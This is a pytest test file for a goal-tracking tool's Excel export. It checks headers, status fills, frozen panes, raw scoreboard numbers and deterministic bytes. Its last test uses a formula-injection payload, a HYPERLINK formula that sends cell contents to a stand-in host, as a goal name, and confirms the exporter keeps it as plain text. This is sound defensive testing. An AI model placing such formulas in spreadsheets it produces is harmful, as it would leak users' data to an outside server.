"""The tracking workbook: read back with openpyxl (headers, values, fills, frozen header, raw numbers on the
scoreboard sheet) and byte-for-byte determinism."""

from __future__ import annotations

import datetime as dt
import io
import math
import zipfile

import openpyxl
import pytest
from attain import excel
from attain import tracking_table as tt
from test_tracking_table import AS_OF, CAC, EN, PLAN, ZH, board, ci, goal_row

TITLE = "进度追踪 2026-Q3"


@pytest.fixture(scope="module")
def table():
    # G1: GMV, at risk, expected 100, actual 90 (deviation +10); G2: off track without check-in (highlighted);
    # G4: CAC target 115, actual 120 (deviation −5), on track with a check-in.
    rows = [goal_row("G1"), goal_row("G2", status="off_track", owner="刘洋"), goal_row("G4", **CAC, status="on_track")]
    notes = [ci("2026-08-10", goal="G4", cause={"zh": "竞价上涨", "en": "Bids rose"}, measure="降低出价")]
    return tt.build(board(*rows), [], PLAN, notes, AS_OF, None, "zh")


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_tracking_sheet_round_trip(table):
    wb = load(excel.tracking_workbook(table, "zh", title=TITLE, as_of="2026-08-15"))
    assert wb.sheetnames == ["跟踪表", "计分板"]
    ws = wb["跟踪表"]
    assert ws["A1"].value == "进度追踪 2026-Q3 · 截至 2026-08-15" and ws["A1"].font.bold
    assert [c.value for c in ws[2]] == ZH and all(c.font.bold for c in ws[2])
    assert ws.freeze_panes == "A3"
    # data rows 3..5 in scoreboard order, the display strings of the table
    assert [ws.cell(row=r, column=1).value for r in (3, 4, 5)] == ["内容营销", "内容营销", "渠道拓展"]
    assert ws["G3"].value == "+¥10.00" and ws["G5"].value == "-¥8.00"   # plan to date 112 − actual 120
    assert ws["H5"].value == "2026-08-10：竞价上涨" and ws["B3"].value.startswith("G1 直播GMV\n")
    assert ws["K4"].value == "2026-09-30\n调整方案截止 2026-08-16"
    assert ws["B3"].alignment.wrap_text
    assert ws.column_dimensions["H"].width == excel.WIDTHS["cause"]


def test_status_fills_and_highlight(table):
    ws = load(excel.tracking_workbook(table, "zh", title=TITLE, as_of=AS_OF))["跟踪表"]
    # rows tinted by status (see test_tracking_table.test_rows_tinted_by_status for the arithmetic);
    # at risk #F9A825: 255 − 6·0.16 = 254.04 -> FE; 255 − 87·0.16 = 241.08 -> F1; 255 − 218·0.16 = 220.12 -> DC
    assert ws["A3"].fill.fgColor.rgb[-6:] == "FEF1DC"
    assert ws["A4"].fill.fgColor.rgb[-6:] == "F6DDDD"             # off track
    assert ws["A5"].fill.fgColor.rgb[-6:] == "E7F4E7"             # on track
    # the off-track row without check-in: cause (H) and measure (I) highlighted, marked, red bold text
    for ref in ("H4", "I4"):
        assert ws[ref].fill.fgColor.rgb[-6:] == tt.HIGHLIGHT.lstrip("#") and ws[ref].font.bold
        assert ws[ref].value.startswith("⚠ 缺少")
    assert ws["H3"].fill.fgColor.rgb[-6:] == "FEF1DC" and ws["H3"].value == "—"   # at risk: not highlighted
    # a deviation in the bad direction is red bold (G1 behind plan, G4 above the CAC ceiling)
    assert ws["G3"].font.bold and ws["G5"].font.bold


def test_scoreboard_sheet_has_raw_numbers(table):
    ws = load(excel.tracking_workbook(table, "en", title="Tracking", as_of=AS_OF))["Scoreboard"]
    heads = [c.value for c in ws[1]]
    assert heads[:3] == ["Goal id", "Goal", "Owner"]
    rows = {r[0]: dict(zip(heads, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"G1", "G2", "G4"}
    g4 = rows["G4"]
    assert g4["Target"] == 115 and g4["Actual to date"] == 120 and g4["Expected to date"] == 112
    assert g4["Deviation (target − actual)"] == pytest.approx(-8.0)   # 112 − 120
    assert isinstance(g4["Target"], (int, float)) and g4["Better"] == "lower" and g4["Status"] == "on track"
    assert g4["Metric"] == "Customer acquisition cost" and g4["Period"] == "2026"
    assert g4["Start"] == dt.datetime(2026, 1, 1) and g4["End"] == dt.datetime(2026, 12, 31)
    assert rows["G1"]["Deviation (target − actual)"] == pytest.approx(10.0)
    assert rows["G1"]["Probability"] == pytest.approx(0.3) and rows["G1"]["Pace index"] == pytest.approx(0.9)
    assert ws.freeze_panes == "C2"


def test_english_headers(table):
    ws = load(excel.tracking_workbook(table, "en", title="Tracking", as_of=AS_OF))["Tracking table"]
    assert [c.value for c in ws[2]] == EN and ws["A1"].value == "Tracking · as of 2026-08-15"


def test_missing_numbers_are_empty_cells():
    row = goal_row("G7", metric=None, unit=None, direction=None, target=math.nan, actual=math.nan, expected=math.nan,
                   status="unmeasurable", start=None, end=None)
    t = tt.build(board(row), [], PLAN, [], AS_OF, None, "zh")
    ws = load(excel.tracking_workbook(t, "zh", title=TITLE, as_of=AS_OF))["计分板"]
    values = dict(zip([c.value for c in ws[1]], [c.value for c in ws[2]]))
    assert values["目标值"] is None and values["开始"] is None and values["状态"] == "无法衡量"


def test_bytes_are_deterministic(table):
    a = excel.tracking_workbook(table, "zh", title=TITLE, as_of="2026-08-15")
    b = excel.tracking_workbook(table, "zh", title=TITLE, as_of=dt.date(2026, 8, 15))
    assert a == b
    z = zipfile.ZipFile(io.BytesIO(a))
    assert {i.date_time for i in z.infolist()} == {(2026, 8, 15, 0, 0, 0)}
    core = z.read("docProps/core.xml").decode()
    assert "<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2026-08-15T00:00:00Z</dcterms:modified>" in core
    wb = load(a)
    assert wb.properties.created == wb.properties.modified == dt.datetime(2026, 8, 15)
    # another as_of changes the stamps (and the title row), so the bytes differ
    assert excel.tracking_workbook(table, "zh", title=TITLE, as_of="2026-08-16") != a


def test_text_that_looks_like_a_formula_stays_text():
    # a goal and a module named like Excel formulas (a hostile plan file) must not become formulas that
    # Excel would run (HYPERLINK can send data away); they are stored and shown as the text typed
    name, module = '=HYPERLINK("http://evil.example/?q="&A1,"click")', "=1+1"
    t = tt.build(board(goal_row("G1", name_zh=name, module=module)), [], PLAN, [], AS_OF, None, "zh")
    wb = load(excel.tracking_workbook(t, "zh", title="=SUM(1,2)", as_of=AS_OF))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert module in texts and any(str(v).startswith("=SUM(1,2) · ") for v in texts)
    assert name in texts or any(str(v).startswith(f"G1 {name}") for v in texts)
